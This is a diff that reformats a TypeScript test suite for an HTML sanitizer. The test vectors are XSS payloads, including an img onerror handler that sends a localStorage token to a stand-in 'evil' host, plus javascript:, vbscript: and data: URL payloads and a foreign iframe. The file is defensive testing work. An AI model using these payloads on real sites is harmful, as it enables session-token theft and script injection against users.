@@ -7,7 +7,11 @@ const clean = (html: string) => sanitizeHtml(html, policy);
 describe('sanitizeHtml', () => {
   it('takes out what runs script, saying what and where', () => {
     const vectors: [string, string, string][] = [
-      ['<img src="data:image/png,x" onerror="new Image().src=\'https://evil/?t=\'+localStorage.getItem(\'token\')">', '<img src="data:image/png,x">', 'the onerror attribute of <img>'],
+      [
+        '<img src="data:image/png,x" onerror="new Image().src=\'https://evil/?t=\'+localStorage.getItem(\'token\')">',
+        '<img src="data:image/png,x">',
+        'the onerror attribute of <img>',
+      ],
       ['<IMG SRC=x ONERROR=alert(1)>', '<img src="x">', 'the onerror attribute of <img>'],
       ['<span onclick="x">y</span>', '<span>y</span>', 'the onclick attribute of <span>'],
       ['<svg onload="alert(1)"></svg>', '', 'the <svg> element'],
@@ -16,11 +20,20 @@ describe('sanitizeHtml', () => {
       ['<a href=" vbscript:x">x</a>', '<a>x</a>', 'the href of <a>, a vbscript: URL'],
       ['<a href="data:text/html,<script>x</script>">x</a>', '<a>x</a>', 'the href of <a>, a data: URL'],
       ['<script>alert(1)</script>ok', 'ok', 'the <script> element and its content'],
-      ['<div style="background:url(javascript:alert(1))">a</div>', '<div>a</div>', 'the style attribute of <div>, which loads a URL or runs code'],
-      ['<iframe src="https://evil.example/x"></iframe>', '<iframe></iframe>', 'an <iframe> from https://evil.example/x, a host not in markdown.iframeHosts'],
+      [
+        '<div style="background:url(javascript:alert(1))">a</div>',
+        '<div>a</div>',
+        'the style attribute of <div>, which loads a URL or runs code',
+      ],
+      [
+        '<iframe src="https://evil.example/x"></iframe>',
+        '<iframe></iframe>',
+        'an <iframe> from https://evil.example/x, a host not in markdown.iframeHosts',
+      ],
       ['<object data="x.swf"></object>', '', 'the <object> element'],
     ];
-    for (const [html, expected, what] of vectors) expect(clean(html), html).toEqual({ html: expected, removed: [{ offset: 0, what }] });
+    for (const [html, expected, what] of vectors)
+      expect(clean(html), html).toEqual({ html: expected, removed: [{ offset: 0, what }] });
   });
 
   it('keeps what documentation writes by hand', () => {
@@ -40,8 +53,15 @@ describe('sanitizeHtml', () => {
   });
 
   it('leaves comments as they are, whatever they hold', () => {
-    for (const html of ['<!-- <a href="/docs/antiga">x</a> -->', 'a <!-- <script>x</script> --> b', '<!-- nunca fechado <img onerror=x>']) expect(clean(html), html).toEqual({ html, removed: [] });
-    expect(clean('<!-- x --><img src=a onerror=b>').removed).toEqual([{ offset: 10, what: 'the onerror attribute of <img>' }]);
+    for (const html of [
+      '<!-- <a href="/docs/antiga">x</a> -->',
+      'a <!-- <script>x</script> --> b',
+      '<!-- nunca fechado <img onerror=x>',
+    ])
+      expect(clean(html), html).toEqual({ html, removed: [] });
+    expect(clean('<!-- x --><img src=a onerror=b>').removed).toEqual([
+      { offset: 10, what: 'the onerror attribute of <img>' },
+    ]);
   });
 
   it('leaves a "<" that starts no element as text', () => {
